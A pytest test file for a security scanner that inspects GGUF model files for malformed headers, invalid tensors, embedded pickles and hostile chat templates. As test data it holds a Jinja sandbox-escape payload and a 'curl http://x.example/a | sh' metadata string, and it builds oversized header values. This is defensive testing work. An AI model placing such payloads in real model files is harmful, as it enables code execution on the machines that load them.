"""GGUF: files written by the gguf package are clean; hostile headers built byte by byte are
reported before anything is allocated; chat templates in the metadata are analysed."""

from __future__ import annotations

import struct
from pathlib import Path

import gguf
import numpy as np
import pytest

from modelshield.core.findings import Severity
from modelshield.scanner.formats.gguf import GGML_TYPES
from tests.scanner.formats.conftest import (
    EVIL_PICKLE,
    of,
    published_templates,
    rules,
    scan,
    scan_bytes,
)

PAYLOAD = "{% for c in [].__class__.__base__.__subclasses__() %}{{ c }}{% endfor %}"


def write(path: Path, *, template: object = None, **strings: str) -> Path:
    """A small model written by the gguf package."""
    writer = gguf.GGUFWriter(str(path), "llama")
    writer.add_name("tiny")
    writer.add_description("a tiny test model")
    if template is not None:
        writer.add_chat_template(template)  # type: ignore[arg-type]
    for key, value in strings.items():
        writer.add_string(key, value)
    writer.add_tokenizer_model("llama")
    writer.add_token_list([b"<s>", b"</s>", b"a", b"\xe2\x96\x81b"])
    writer.add_token_scores([0.0, 0.0, -1.0, -2.0])
    writer.add_array("test.nested", [[1, 2], [3]])
    writer.add_tensor("tok_embd", np.zeros((4, 32), np.float32))
    writer.add_tensor("norm", np.ones(32, np.float16))
    q8 = np.zeros((2, 34), np.uint8)  # two Q8_0 blocks of 32 weights
    writer.add_tensor("q", q8, raw_dtype=gguf.GGMLQuantizationType.Q8_0)
    writer.write_header_to_file()
    writer.write_kv_data_to_file()
    writer.write_tensors_to_file()
    writer.close()
    return path


class Builder:
    """A GGUF v3 file byte by byte."""

    def __init__(self, version: int = 3) -> None:
        self.version = version
        self.kvs: list[bytes] = []
        self.tensors: list[bytes] = []
        self.n_kv: int | None = None
        self.n_tensors: int | None = None
        self.data = b""

    def string(self, value: bytes) -> bytes:
        return struct.pack("<Q", len(value)) + value

    def kv(self, key: str, value_type: int, value: bytes) -> Builder:
        self.kvs.append(self.string(key.encode()) + struct.pack("<I", value_type) + value)
        return self

    def text(self, key: str, value: str | bytes) -> Builder:
        raw = value.encode() if isinstance(value, str) else value
        return self.kv(key, 8, self.string(raw))

    def tensor(self, name: str, dims: list[int], ggml_type: int, offset: int) -> Builder:
        entry = self.string(name.encode()) + struct.pack("<I", len(dims))
        entry += b"".join(struct.pack("<Q", d) for d in dims)
        self.tensors.append(entry + struct.pack("<IQ", ggml_type, offset))
        return self

    def bytes(self) -> bytes:
        n_tensors = len(self.tensors) if self.n_tensors is None else self.n_tensors
        n_kv = len(self.kvs) if self.n_kv is None else self.n_kv
        out = b"GGUF" + struct.pack("<IQQ", self.version, n_tensors, n_kv)
        out += b"".join(self.kvs) + b"".join(self.tensors)
        if self.data:
            out += b"\0" * (-len(out) % 32) + self.data
        return out


# ---- real files ------------------------------------------------------------------------------


def test_files_written_by_gguf_are_clean(tmp_path: Path) -> None:
    path = write(tmp_path / "m.gguf", template=published_templates()["chatml.jinja"])
    reader = gguf.GGUFReader(str(path))
    assert len(reader.tensors) == 3
    result = scan(path)
    assert result.format == "gguf"
    assert result.findings == ()
    assert result.status == "complete"
    assert result.metadata["gguf_version"] == "3"


def test_big_endian_files_are_read(tmp_path: Path) -> None:
    path = tmp_path / "be.gguf"
    writer = gguf.GGUFWriter(str(path), "llama", endianess=gguf.GGUFEndian.BIG)
    writer.add_chat_template(PAYLOAD)
    writer.add_tensor("t", np.zeros((2, 32), np.float32))
    writer.write_header_to_file()
    writer.write_kv_data_to_file()
    writer.write_tensors_to_file()
    writer.close()
    result = scan(path)
    assert result.metadata["gguf_byte_order"] == "big-endian"
    assert rules(result) == {"TEMPLATE-SANDBOX-ESCAPE"}


def test_the_ggml_type_table_matches_the_gguf_package() -> None:
    expected = {t.value: size for t, size in gguf.constants.GGML_QUANT_SIZES.items()}
    assert {k: v for k, v in GGML_TYPES.items() if k in expected} == expected


# ---- chat templates and metadata -----------------------------------------------------------


def test_hostile_chat_template_is_critical(tmp_path: Path) -> None:
    result = scan(write(tmp_path / "m.gguf", template=PAYLOAD))
    [finding] = of(result, "TEMPLATE-SANDBOX-ESCAPE")
    assert finding.severity is Severity.CRITICAL
    assert finding.evidence["template"] == "GGUF key 'tokenizer.chat_template'"
    assert finding.location.offset is not None


def test_named_chat_templates_are_rendered_templates(tmp_path: Path) -> None:
    templates = [
        {"name": "default", "template": "{{ m }}"},
        {"name": "tool_use", "template": PAYLOAD},
    ]
    result = scan(write(tmp_path / "m.gguf", template=templates))
    [finding] = of(result, "TEMPLATE-SANDBOX-ESCAPE")
    assert finding.severity is Severity.CRITICAL
    assert "tokenizer.chat_template.tool_use" in finding.evidence["template"]


def test_templates_and_code_under_other_keys(tmp_path: Path) -> None:
    result = scan(
        write(
            tmp_path / "m.gguf",
            **{"general.notes": PAYLOAD, "general.source.url": "curl http://x.example/a | sh"},
        )
    )
    assert {f.severity for f in of(result, "TEMPLATE-SANDBOX-ESCAPE")} == {Severity.MEDIUM}
    assert of(result, "METADATA-CODE")


def test_raw_pickle_in_a_string_value_is_analysed(tmp_path: Path) -> None:
    result = scan_bytes(tmp_path, Builder().text("general.blob", EVIL_PICKLE).bytes())
    assert of(result, "METADATA-EMBEDDED-PICKLE")[0].severity is Severity.HIGH
    assert of(result, "PICKLE-CALL-DANGEROUS")


# ---- hostile headers -------------------------------------------------------------------------

HUGE = 2**63


def _huge_kv_count() -> bytes:
    b = Builder()
    b.n_kv = HUGE
    return b.bytes()


def _huge_tensor_count() -> bytes:
    b = Builder()
    b.n_tensors = HUGE
    return b.bytes()


MALFORMED: list[tuple[str, bytes, str]] = [
    ("kv-count-2**63", _huge_kv_count(), "more than the"),
    ("tensor-count-2**63", _huge_tensor_count(), "more than the"),
    (
        "string-length-2**63",
        Builder().kv("general.name", 8, struct.pack("<Q", HUGE) + b"x").bytes(),
        "needs 9223372036854775808 bytes",
    ),
    (
        "array-count-2**63-strings",
        Builder().kv("tokenizer.ggml.tokens", 9, struct.pack("<IQ", 8, HUGE)).bytes(),
        "declares 9223372036854775808 elements",
    ),
    (
        "array-count-2**63-numbers",
        Builder().kv("x", 9, struct.pack("<IQ", 6, HUGE)).bytes(),
        "needs 36893488147419103232 bytes",
    ),
    ("unknown-value-type", Builder().kv("x", 99, b"\0").bytes(), "unknown value type 99"),
    ("unknown-array-type", Builder().kv("x", 9, struct.pack("<IQ", 77, 1)).bytes(), "element type"),
    ("duplicate-key", Builder().text("a", "1").text("a", "2").bytes(), "appears twice"),
    (
        "key-not-utf8",
        b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + struct.pack("<Q", 2) + b"\xff\xfe" + b"\0" * 13,
        "not UTF-8",
    ),
    (
        "alignment-not-power-of-two",
        Builder().kv("general.alignment", 4, struct.pack("<I", 24)).bytes(),
        "not a power of two",
    ),
    ("truncated-tensor", Builder().tensor("t", [4], 0, 0).bytes()[:-4], "offset of tensor 0"),
    (
        "dims-2**32",
        Builder().bytes()[:8] + struct.pack("<QQ", 1, 0) + Builder().string(b"t")
        + struct.pack("<I", 2**32 - 1) + b"\0" * 64,
        "dimensions of tensor 0",
    ),
]  # fmt: skip


@pytest.mark.parametrize(
    ("data", "problem"), [m[1:] for m in MALFORMED], ids=[m[0] for m in MALFORMED]
)
def test_malformed_headers_are_incomplete_findings(
    tmp_path: Path, data: bytes, problem: str
) -> None:
    result = scan_bytes(tmp_path, data)
    assert result.format == "gguf"
    [finding] = of(result, "GGUF-MALFORMED")
    assert problem in finding.evidence["problem"]
    assert result.status == "incomplete"


def test_findings_before_a_malformation_are_kept(tmp_path: Path) -> None:
    data = Builder().text("tokenizer.chat_template", PAYLOAD).kv("x", 99, b"").bytes()
    assert {"TEMPLATE-SANDBOX-ESCAPE", "GGUF-MALFORMED"} <= rules(scan_bytes(tmp_path, data))


def test_nested_arrays_deeper_than_the_limit_stop_with_a_finding(tmp_path: Path) -> None:
    value = struct.pack("<IQ", 9, 1) * 500 + struct.pack("<IQ", 4, 0)
    data = Builder().kv("x", 9, value).bytes()
    result = scan_bytes(tmp_path, data)
    assert "SCAN-LIMIT" in rules(result)
    assert result.status == "incomplete"


TENSORS: list[tuple[str, Builder, str]] = [
    ("five-dims", Builder().tensor("t", [1, 1, 1, 1, 1], 0, 0), "5 dimensions"),
    ("long-name", Builder().tensor("t" * 65, [1], 0, 0), "65 bytes"),
    ("past-the-end", Builder().tensor("t", [4], 0, 1 << 40), "reach past the end"),
    ("misaligned", Builder().tensor("t", [4], 0, 3), "not a multiple of the alignment"),
    ("block-size", Builder().tensor("t", [33], 8, 0), "block size 32"),
    ("overflow", Builder().tensor("t", [2**62, 4], 0, 0), "2**63"),
    ("duplicate", Builder().tensor("t", [8], 0, 0).tensor("t", [8], 0, 32), "another tensor"),
]


@pytest.mark.parametrize(
    ("builder", "problem"), [t[1:] for t in TENSORS], ids=[t[0] for t in TENSORS]
)
def test_invalid_tensors_are_reported(tmp_path: Path, builder: Builder, problem: str) -> None:
    builder.data = b"\0" * 64
    result = scan_bytes(tmp_path, builder.bytes())
    found = of(result, "GGUF-TENSOR-INVALID")
    assert any(problem in f.evidence["problem"] for f in found), found


def test_overlapping_tensors_are_reported(tmp_path: Path) -> None:
    builder = Builder().tensor("a", [8], 0, 0).tensor("b", [8], 0, 0)
    builder.data = b"\0" * 32
    [finding] = of(scan_bytes(tmp_path, builder.bytes()), "GGUF-TENSOR-INVALID")
    assert finding.evidence["problem"] == "overlap"


def test_unknown_ggml_type_is_not_size_checked(tmp_path: Path) -> None:
    builder = Builder().tensor("t", [8], 200, 0)
    builder.data = b"\0" * 32
    assert scan_bytes(tmp_path, builder.bytes()).findings == ()


def test_a_pickle_after_the_tensors_is_analysed(tmp_path: Path) -> None:
    builder = Builder().tensor("t", [8], 0, 0)
    builder.data = b"\0" * 32 + EVIL_PICKLE
    result = scan_bytes(tmp_path, builder.bytes())
    assert "GGUF-TENSOR-INVALID" in rules(result)
    assert of(result, "PICKLE-CALL-DANGEROUS")


def test_tensor_tables_above_the_member_limit_are_not_read(tmp_path: Path) -> None:
    builder = Builder().text("tokenizer.chat_template", PAYLOAD)
    for i in range(20):
        builder.tensor(f"t{i}", [8], 0, 32 * i)
    result = scan_bytes(tmp_path, builder.bytes(), max_members=10)
    assert {"SCAN-LIMIT", "TEMPLATE-SANDBOX-ESCAPE"} <= rules(result)
    assert result.status == "incomplete"
